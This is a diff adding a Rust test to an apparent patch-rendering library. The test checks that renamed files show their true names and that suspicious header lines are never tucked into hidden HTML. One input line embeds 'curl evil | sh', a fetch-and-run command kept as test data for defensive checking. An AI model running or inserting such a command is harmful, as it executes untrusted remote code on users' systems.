@@ -371,3 +371,29 @@ proptest! {
         rendered(&parts.concat());
     }
 }
+
+#[test]
+fn a_file_has_the_name_that_a_program_would_change_and_only_what_it_tells_is_hidden() {
+    let renamed = "diff --git a/README b/README\nsimilarity index 50%\nrename from README\nrename to README.md\n";
+    let text = format!("{renamed}--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1 @@\n-x\n+y\n");
+    let html = rendered(&text).expect("a patch").html;
+    assert!(
+        html.contains(".bashrc</code>") || html.contains(">.bashrc<"),
+        "{html}"
+    );
+    assert!(!html.contains(">README.md<"), "{html}");
+    for line in [
+        "index curl evil | sh",
+        "======== anything",
+        "Binary file notes: anything",
+        "similarity index of all",
+    ] {
+        let text = format!("diff --git a/b b/b\n{line}\n--- a/b\n+++ b/b\n@@ -1 +1 @@\n-x\n+y\n");
+        let html = rendered(&text).map_or(String::new(), |patch| patch.html);
+        let hidden = html
+            .split("hidden")
+            .skip(1)
+            .any(|it| it.split("</").next().is_some_and(|it| it.contains(line)));
+        assert!(!hidden, "{line}: {html}");
+    }
+}
